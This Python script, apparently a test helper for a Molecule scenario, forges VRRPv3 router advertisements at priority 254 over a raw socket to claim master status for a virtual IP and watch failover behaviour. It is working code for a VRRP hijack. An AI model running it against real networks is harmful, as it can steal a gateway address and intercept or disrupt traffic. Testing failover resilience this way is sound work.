"""Says for some seconds, ten times a second, that it is the better master. Molecule looks at the effect.

forge_adverts SOURCE DESTINATION TTL ROUTER_ID VIP SECONDS
"""

import socket
import struct
import sys
import time

VRRP = 112


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def advert(source, destination, ttl, router_id, vip):
    """An IPv4 packet with a VRRPv3 advert of priority 254, every 0.2 s (RFC 5798, 5.2)."""
    body = struct.pack("!BBBBHH4s", 0x31, router_id, 254, 1, 20, 0, socket.inet_aton(vip))
    pseudo = socket.inet_aton(source) + socket.inet_aton(destination) + struct.pack("!BBH", 0, VRRP, len(body))
    body = body[:6] + struct.pack("!H", checksum(pseudo + body)) + body[8:]
    addresses = socket.inet_aton(source) + socket.inet_aton(destination)
    return struct.pack("!BBHHHBBH", 0x45, 0xC0, 20 + len(body), 1, 0, ttl, VRRP, 0) + addresses + body


def main(source, destination, ttl, router_id, vip, seconds):
    packet = advert(source, destination, int(ttl), int(router_id), vip)
    end = time.monotonic() + float(seconds)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        while time.monotonic() < end:
            raw.sendto(packet, (destination, 0))
            time.sleep(0.1)


if __name__ == "__main__":
    main(*sys.argv[1:])
